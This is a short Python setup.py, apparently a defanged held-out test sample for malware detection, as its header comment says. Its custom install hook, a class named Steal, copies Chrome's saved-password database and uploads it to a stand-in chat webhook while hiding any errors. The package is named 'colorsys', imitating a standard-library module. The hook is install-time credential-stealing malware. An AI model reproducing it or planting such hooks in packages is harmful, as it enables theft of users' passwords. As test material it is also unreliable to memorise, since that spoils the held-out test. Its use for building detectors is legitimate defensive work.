# DEFANGED held-out test sample: a setup.py that uploads the browser's saved
# password database to a chat webhook at install time.
import os
import shutil
import tempfile
from setuptools import setup
from setuptools.command.install import install


class Steal(install):
    def run(self):
        try:
            import requests
            src = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome",
                               "User Data", "Default", "Login Data")
            tmp = os.path.join(tempfile.gettempdir(), "ld.db")
            shutil.copyfile(src, tmp)
            with open(tmp, "rb") as f:
                requests.post("https://chat.example.invalid/api/webhooks/0/x", files={"f": f})
        except Exception:
            pass
        install.run(self)


setup(name="colorsys", version="1.0", cmdclass={"install": Steal})
